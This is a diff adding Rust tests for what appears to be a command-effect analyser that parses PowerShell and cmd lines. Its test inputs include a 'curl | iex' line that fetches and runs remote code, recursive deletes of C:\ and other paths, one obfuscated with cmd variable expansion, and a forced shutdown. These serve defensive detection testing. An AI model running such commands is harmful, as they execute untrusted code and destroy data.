@@ -320,6 +320,51 @@ fn cmd_data() {
 }
 
 #[test]
+fn listings_and_programs() {
+    posh(
+        "gci . -Include bin,obj -Recurse | ri -Recurse",
+        &[
+            "delete -r C:/Users/me/repo/bin (glob)",
+            "delete -r C:/Users/me/repo/obj (glob)",
+        ],
+    );
+    posh(
+        "function f { param($p) Remove-Item $p -Recurse }; f C:\\",
+        &["delete -r ?"],
+    );
+    posh(
+        "curl https://h.example/x | iex",
+        &["GET h.example", "remote code https://h.example/x"],
+    );
+    posh(
+        "& 'C:\\Program Files\\Git\\bin\\bash.exe' -c 'rm -rf C:/x'",
+        &["delete -r C:/x"],
+    );
+    posh(
+        "git -C C:\\x status; Stop-Computer -Force; apt-get --version",
+        &[],
+    );
+    cmd(
+        "cmd /v:on /c \"set a=rd&& !a! /s /q C:\\x\"",
+        &["delete -r C:/x"],
+    );
+}
+
+#[test]
+fn scripts_are_read_or_wanted() {
+    let mut context = context(Dialect::PowerShell);
+    let wanted = super::read(".\\a.ps1 -Force", &context).wanted_files;
+    assert_eq!(wanted, ["C:/Users/me/repo/a.ps1"]);
+    context.files.insert(
+        "C:/Users/me/repo/a.ps1".to_owned(),
+        "rd C:\\x -Recurse".to_owned(),
+    );
+    let script = super::read("& .\\a.ps1", &context);
+    assert!(script.wanted_files.is_empty());
+    assert_eq!(script.effects.len(), 1);
+}
+
+#[test]
 fn invocations_name_cmdlets_and_parameters() {
     let script = super::read("rm -r -fo C:\\x", &context(Dialect::PowerShell));
     let invocation = &script.invocations[0];
